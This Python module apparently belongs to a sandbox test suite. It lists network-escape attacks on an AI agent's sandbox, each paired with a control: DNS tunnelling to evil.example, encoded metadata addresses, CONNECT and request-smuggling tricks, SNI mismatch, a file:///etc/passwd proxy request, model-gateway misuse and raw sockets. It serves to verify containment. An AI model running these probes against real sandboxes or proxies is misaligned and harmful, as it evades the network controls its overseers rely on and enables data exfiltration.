"""Attacks on the network policy, each with its control. The task may reach only HOST, on ports 443 and 80."""

from escape.attack import Attack

PRELUDE = r"""
import json, os, socket, ssl, struct, subprocess, sys, threading

def expect_data(data):
    succeeded() if data else refused("closed")

def is_gateway_response(data):
    # The gateway denies with one of these statuses and its name, or with a model API error.
    status, _, body = data.partition(b" ")[2].partition(b" ")
    return status in {b"400", b"401", b"403"} and (b"Sandbox refused " in body or b'"type":"error"' in body)

def tcp(address, port, message=b"", family=socket.AF_INET):
    with socket.socket(family, socket.SOCK_STREAM) as connection:
        connection.settimeout(6)
        connection.connect((address, port))
        if not message: return b"connected"
        connection.sendall(message)
        return connection.recv(4000)

def get(host): return b"GET /x HTTP/1.1\r\nHost: " + host.encode() + b"\r\nConnection: close\r\n\r\n"

def udp(address, port, message=b"hello"):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as connection:
        connection.settimeout(4)
        connection.sendto(message, (address, port))
        return connection.recv(4000)

def expect_http_200(data):
    print(data[:200])
    if b" 200 " in data.split(b"\r\n")[0]: succeeded()
    elif is_gateway_response(data): refused("gateway")
    elif not data: refused("closed")

def proxy(request):
    return tcp("127.0.0.1", 3128, request)

def connect(target, host=None):
    return proxy(b"CONNECT " + target + b" HTTP/1.1\r\nHost: " + (host or target) + b"\r\n\r\n")

def ask_model(*blocks, **fields):
    key = os.environ.get("ANTHROPIC_API_KEY") or os.environ.get("ANTHROPIC_AUTH_TOKEN") or ""
    messages = [{"role": "user", "content": [{"type": "text", "text": "Hi"}, *blocks]}]
    body = json.dumps({"model": "claude-haiku-4-5", "max_tokens": 9, "messages": messages, **fields})
    head = f"POST /v1/messages HTTP/1.1\r\nHost: 127.0.0.1:8123\r\nx-api-key: {key}\r\nContent-Length: {len(body)}\r\n\r\n"
    expect_http_200(tcp("127.0.0.1", 8123, (head + body).encode()))

def tool_addition(tool):
    return {"type": "tool_addition", "tool": {"type": "tool_definition", "definition": tool}}

FETCH = {"type": "web_fetch_20250910", "name": "web_fetch"}
OWN_TOOL = {"name": "own", "input_schema": {"type": "object"}}

def query(name, kind=1, server="198.18.0.1", port=53, send=udp):
    labels = b"".join(bytes([len(part)]) + part for part in name.encode().split(b".") if part) + b"\0"
    message = b"\x12\x34\1\0\0\1\0\0\0\0\0\0" + labels + struct.pack("!HH", kind, 1)
    return send(server, port, message)

def expect_dns_records(answer):
    # Header fields: the number of answers, and the response code.
    code, answers = answer[3] & 15, struct.unpack("!H", answer[6:8])[0]
    if answers: succeeded()
    else: refused({0: "no records", 3: "no such name", 5: "refused by the resolver"}.get(code, f"code {code}"))

def curl(*arguments):
    ran = subprocess.run(["curl", "-sS", "-m", "10", "--cacert", "/workspace/ca.pem", *arguments], capture_output=True)
    print(ran.stdout[-200:], ran.stderr[-200:])
    if b'"path"' in ran.stdout: succeeded()
    elif b"Sandbox refused " in ran.stdout: refused("gateway")

def tls(address, port, name, host, by_proxy=False):
    context = ssl.create_default_context(cafile="/workspace/ca.pem")
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    connection = socket.create_connection((address, port), 10)
    if by_proxy:
        connection.sendall(f"CONNECT {HOST}:443 HTTP/1.1\r\nHost: {HOST}:443\r\n\r\n".encode())
        with setup():
            if b" 200 " not in connection.recv(1000): raise OSError("no tunnel")
    with context.wrap_socket(connection, server_hostname=name) as secure:
        secure.sendall(get(host))
        expect_http_200(secure.recv(4000))
"""

REACH_BY_CURL = "curl('https://' + HOST + '/a')"
REACH_DIRECTLY = "curl('--noproxy', '*', 'https://' + HOST + '/a')"
REACH_BY_CONNECT = "expect_http_200(connect(HOST.encode() + b':443'))"
REACH_BY_ABSOLUTE_FORM = "expect_http_200(proxy(b'GET http://' + HOST.encode() + b'/a HTTP/1.1\\r\\nHost: ' + HOST.encode() + b'\\r\\n\\r\\n'))"
RESOLVE = "expect_dns_records(query(HOST))"
TLS_DIRECT = "tls(HOST, 443, HOST, HOST)"
TLS_BY_PROXY = "tls('127.0.0.1', 3128, HOST, HOST, by_proxy=True)"
LISTENER_CONTROL = """
server = socket.create_server(("127.0.0.1", 0))
expect_data(tcp("127.0.0.1", server.getsockname()[1]))"""
UDP_CONTROL = """
server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); server.bind(("127.0.0.1", 0))
threading.Thread(target=lambda: server.sendto(b"hello", server.recvfrom(100)[1]), daemon=True).start()
expect_data(udp("127.0.0.1", server.getsockname()[1]))"""
UNIX_CONTROL = """
server = socket.socket(socket.AF_UNIX); server.bind("\\0control"); server.listen()
connection = socket.socket(socket.AF_UNIX); connection.connect("\\0control"); succeeded()"""


NO_ROUTE_ERRORS, GATEWAY_WORDS, CLOSED_WORDS = ("ENETUNREACH",), ("gateway",), ("closed", "ECONNRESET")
UNSUPPORTED_ERRORS = ("EPERM", "EACCES", "EAFNOSUPPORT")
NO_NAME_WORDS = ("no such name", "refused by the resolver")


def network_attacks():
    """Yield all network attacks."""
    yield from _by_address()
    yield from _by_unusual_address()
    yield from _without_a_name()
    yield from _by_name()
    yield from _through_the_proxy()
    yield from _through_transparent_ports()
    yield from _by_other_families()


_GATEWAY_ATTACKS_FOR_EACH_RUNTIME = {
    "DNS query for a name that is not allowed",
    "DNS over TCP",
    "a public DNS resolver",
    "a name that resolves to the metadata address",
    "CONNECT to a host that is not allowed",
    "absolute-form request to another host",
    "TLS with another server name (SNI)",
    "another Host header on port 80",
    "model gateway without the task's key",
}
"""One attack on the gateway for each way in which a sandbox can connect to it."""


def gateway_attack_names():
    """Return the names of the attacks whose outcome does not depend on the runtime.

    The gateway runs on the host, and other attacks cover every way to reach it.
    """
    attacks = (*_by_unusual_address(), *_by_name(), *_through_the_proxy(), *_through_transparent_ports())
    return {attack.name for attack in attacks} - _GATEWAY_ATTACKS_FOR_EACH_RUNTIME


def _by_address():
    for name, address in (
        ("a public address", "PUBLIC"),
        ("the metadata address", "METADATA"),
        ("a private address", "PRIVATE"),
        ("the model API's host", "MODEL_HOST"),
        ("the server's address", "SERVER"),
    ):
        yield Attack(f"TCP to {name}", f"expect_data(tcp({address}, 80))", REACH_DIRECTLY, NO_ROUTE_ERRORS, packet=("tcp", address, 80))  # fmt: skip
        yield Attack(
            f"UDP to {name}",
            f"expect_data(udp({address}, 53))",
            UDP_CONTROL,
            NO_ROUTE_ERRORS,
            packet=("udp", address, 53),
        )


def _by_unusual_address():
    for name, target in (
        ("a decimal address", "str(int.from_bytes(socket.inet_aton(METADATA)))"),
        ("a hexadecimal address", "hex(int.from_bytes(socket.inet_aton(METADATA)))"),
        ("an octal address", "'.'.join('0%o' % int(n) for n in METADATA.split('.'))"),
        ("a shortened address", "'127.1'"),
        ("an IPv4-mapped IPv6 address", "'[::ffff:' + METADATA + ']'"),
        ("a NAT64 address", "'[64:ff9b::a9fe:a9fe]'"),
        ("the IPv6 loopback address", "'[::1]'"),
    ):
        yield Attack(
            f"{name}, through the proxy",
            f"expect_http_200(connect(({target}).encode() + b':80'))",
            REACH_BY_CONNECT,
            GATEWAY_WORDS,
        )


def _without_a_name():
    yield Attack(
        "a synthetic address without a name",
        "expect_http_200(tcp('198.18.77.7', 80, get(HOST)))",
        REACH_DIRECTLY,
        GATEWAY_WORDS,
    )
    yield Attack(
        "the server's ports on loopback",
        "expect_data(tcp('127.0.0.1', SERVER_PORT))",
        LISTENER_CONTROL,
        ("ECONNREFUSED",),
    )
    yield Attack(
        "the host's IPv6 loopback",
        "expect_data(tcp('::1', SERVER_PORT, family=socket.AF_INET6))",
        LISTENER_CONTROL,
        ("ECONNREFUSED",),
    )


def _by_name():
    yield Attack(
        "DNS query for a name that is not allowed", "expect_dns_records(query('other.example'))", RESOLVE, NO_NAME_WORDS
    )
    yield Attack(
        "DNS tunnel (data in a name)",
        "expect_dns_records(query('c2VjcmV0LXZhbHVl.evil.example'))",
        RESOLVE,
        NO_NAME_WORDS,
    )
    yield Attack(
        "DNS tunnel through a subdomain of an allowed host",
        "expect_dns_records(query('c2VjcmV0.' + HOST))",
        RESOLVE,
        NO_NAME_WORDS,
    )
    yield Attack("DNS over TCP", "expect_dns_records(query('other.example', send=lambda a, p, m: tcp(a, p, struct.pack('!H', len(m)) + m)[2:]))",
                 "expect_dns_records(query(HOST, send=lambda a, p, m: tcp(a, p, struct.pack('!H', len(m)) + m)[2:]))", NO_NAME_WORDS)  # fmt: skip
    yield Attack(
        "DNS query for a TXT record",
        "expect_dns_records(query(HOST, kind=16))",
        RESOLVE,
        (*NO_NAME_WORDS, "no records"),
    )
    yield Attack(
        "a public DNS resolver",
        "expect_data(query('other.example', server=PUBLIC))",
        RESOLVE,
        NO_ROUTE_ERRORS,
        packet=("udp", "PUBLIC", 53),
    )
    yield Attack(
        "a name that ends in an allowed name", "expect_dns_records(query('evil' + HOST))", RESOLVE, NO_NAME_WORDS
    )
    yield Attack(
        "a name that starts with an allowed name",
        "expect_dns_records(query(HOST + '.evil.example'))",
        RESOLVE,
        NO_NAME_WORDS,
    )
    yield Attack(
        "a name that resolves to a private address", "curl('http://inside.example/x')", REACH_BY_CURL, GATEWAY_WORDS
    )
    yield Attack(
        "a name that resolves to the metadata address",
        "curl('http://metadata.example/x')",
        REACH_BY_CURL,
        GATEWAY_WORDS,
    )
    yield Attack("a name that resolves to the server", "curl('http://own.example/x')", REACH_BY_CURL, GATEWAY_WORDS)


def _through_the_proxy():
    for name, target in (
        ("a host that is not allowed", "b'other.example:443'"),
        ("another port of an allowed host", "HOST.encode() + b':8443'"),
        ("an allowed host followed by NUL", "HOST.encode() + b'\\0.evil.example:443'"),
        ("a host followed by a line break", "b'other.example:443 HTTP/1.1\\r\\nX: ' + HOST.encode() + b':443'"),
        ("a host with user information", "HOST.encode() + b'@other.example:443'"),
        ("a port that is not a number", "HOST.encode() + b':443a'"),
        ("the model API's host", "MODEL_HOST.encode() + b':' + str(MODEL_PORT).encode()"),
        ("the proxy itself", "b'127.0.0.1:3128'"),
    ):
        yield Attack(f"CONNECT to {name}", f"expect_http_200(connect({target}))", REACH_BY_CONNECT, GATEWAY_WORDS)
    yield Attack(
        "CONNECT to another host with an allowed Host header",
        "expect_http_200(connect(b'other.example:443', HOST.encode() + b':443'))",
        REACH_BY_CONNECT,
        GATEWAY_WORDS,
    )
    yield Attack("absolute-form request to another host", "expect_http_200(proxy(b'GET http://other.example/x HTTP/1.1\\r\\nHost: ' + HOST.encode() + b'\\r\\n\\r\\n'))", REACH_BY_ABSOLUTE_FORM, GATEWAY_WORDS)  # fmt: skip
    yield Attack("absolute-form request with another Host header", "expect_http_200(proxy(b'GET http://' + HOST.encode() + b'/x HTTP/1.1\\r\\nHost: other.example\\r\\n\\r\\n'))", REACH_BY_ABSOLUTE_FORM, GATEWAY_WORDS)  # fmt: skip
    yield Attack("a file URL, through the proxy", "expect_http_200(proxy(b'GET file:///etc/passwd HTTP/1.1\\r\\nHost: ' + HOST.encode() + b'\\r\\n\\r\\n'))", REACH_BY_ABSOLUTE_FORM, GATEWAY_WORDS)  # fmt: skip
    yield Attack("two Content-Length headers", "expect_http_200(proxy(b'POST http://' + HOST.encode() + b'/x HTTP/1.1\\r\\nHost: ' + HOST.encode() + b'\\r\\nContent-Length: 4\\r\\nContent-Length: 50\\r\\n\\r\\nabcdGET http://other.example/x HTTP/1.1\\r\\n\\r\\n'))", REACH_BY_ABSOLUTE_FORM, GATEWAY_WORDS)  # fmt: skip
    yield Attack("Content-Length with Transfer-Encoding", "expect_http_200(proxy(b'POST http://' + HOST.encode() + b'/x HTTP/1.1\\r\\nHost: ' + HOST.encode() + b'\\r\\nContent-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET /x HTTP/1.1\\r\\nHost: other.example\\r\\n\\r\\n'))", REACH_BY_ABSOLUTE_FORM, GATEWAY_WORDS)  # fmt: skip
    yield Attack("a pipelined request to another host", """
connection = socket.create_connection((HOST, 80), 10)
connection.sendall(get(HOST).replace(b"Connection: close\\r\\n", b"") + get("other.example"))
data = b""
while more := connection.recv(4000): data += more
if data.count(b"HTTP/1.1 200") > 1: succeeded()
elif data.count(b"HTTP/1.1 ") == 1 or is_gateway_response(data[data.rindex(b"HTTP/1.1 "):]): refused("gateway")""", "expect_http_200(tcp(HOST, 80, get(HOST)))", GATEWAY_WORDS)  # fmt: skip


def _through_transparent_ports():
    yield Attack(
        "TLS with another server name (SNI)",
        "tls(HOST, 443, 'other.example', 'other.example')",
        TLS_DIRECT,
        CLOSED_WORDS,
    )
    yield Attack("TLS without a server name (SNI)", "tls(HOST, 443, None, HOST)", TLS_DIRECT, CLOSED_WORDS)
    yield Attack(
        "TLS with another server name (SNI) in a tunnel",
        "tls('127.0.0.1', 3128, 'other.example', HOST, by_proxy=True)",
        TLS_BY_PROXY,
        CLOSED_WORDS,
    )
    yield Attack("plain HTTP on port 443", "expect_http_200(tcp(HOST, 443, get(HOST)))", TLS_DIRECT, CLOSED_WORDS)
    yield Attack(
        "another Host header on port 80",
        "expect_http_200(tcp(HOST, 80, get('other.example')))",
        "expect_http_200(tcp(HOST, 80, get(HOST)))",
        GATEWAY_WORDS,
    )
    yield Attack(
        "no Host header on port 80",
        "expect_http_200(tcp(HOST, 80, b'GET /x HTTP/1.0\\r\\n\\r\\n'))",
        "expect_http_200(tcp(HOST, 80, get(HOST)))",
        GATEWAY_WORDS,
    )
    yield Attack(
        "a redirect to another host",
        "curl('-L', 'http://' + HOST + '/away/other.example?x')",
        REACH_BY_CURL,
        GATEWAY_WORDS,
    )
    yield Attack("model gateway without the task's key", "expect_http_200(tcp('127.0.0.1', 8123, b'POST /v1/messages HTTP/1.1\\r\\nHost: 127.0.0.1:8123\\r\\nContent-Length: 2\\r\\nx-api-key: made-up\\r\\n\\r\\n{}'))",
                 "if os.environ['ANTHROPIC_BASE_URL'].startswith('http://127.0.0.1:8123'): expect_data(tcp('127.0.0.1', 8123))", GATEWAY_WORDS)  # fmt: skip
    yield Attack("model gateway with another path", """
key = os.environ.get("ANTHROPIC_API_KEY") or os.environ.get("ANTHROPIC_AUTH_TOKEN") or ""
expect_http_200(tcp("127.0.0.1", 8123, f"GET /v1/files HTTP/1.1\\r\\nHost: 127.0.0.1:8123\\r\\nx-api-key: {key}\\r\\n\\r\\n".encode()))""",
                 "expect_data(tcp('127.0.0.1', 8123))", GATEWAY_WORDS)  # fmt: skip

    yield Attack(
        "a server-side tool of the model API", "ask_model(tools=[FETCH])", "ask_model(tools=[OWN_TOOL])", GATEWAY_WORDS
    )
    yield Attack(
        "a server-side tool of the model API, in a message",
        "ask_model(tool_addition(FETCH))",
        "ask_model(tool_addition(OWN_TOOL))",
        GATEWAY_WORDS,
    )


def _by_other_families():
    yield Attack(
        "a raw IP socket",
        "socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP); succeeded()",
        LISTENER_CONTROL,
        UNSUPPORTED_ERRORS,
    )
    yield Attack(
        "a packet socket",
        "connection = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3); connection.bind(('lo', 0)); succeeded()",
        LISTENER_CONTROL,
        UNSUPPORTED_ERRORS,
    )
    yield Attack("a vsock connection to the host", "connection = socket.socket(socket.AF_VSOCK); connection.settimeout(4); connection.connect((2, 1024)); succeeded()", LISTENER_CONTROL, UNSUPPORTED_ERRORS)  # fmt: skip
    yield Attack("an abstract Unix socket of the host", "connection = socket.socket(socket.AF_UNIX); connection.connect('\\0' + ABSTRACT); succeeded()", UNIX_CONTROL, ("ECONNREFUSED",))  # fmt: skip
    yield Attack("a Unix socket file of the host", "connection = socket.socket(socket.AF_UNIX); connection.connect(SOCKET_FILE); succeeded()", UNIX_CONTROL, ("ENOENT",), host_paths=("SOCKET_FILE",))  # fmt: skip
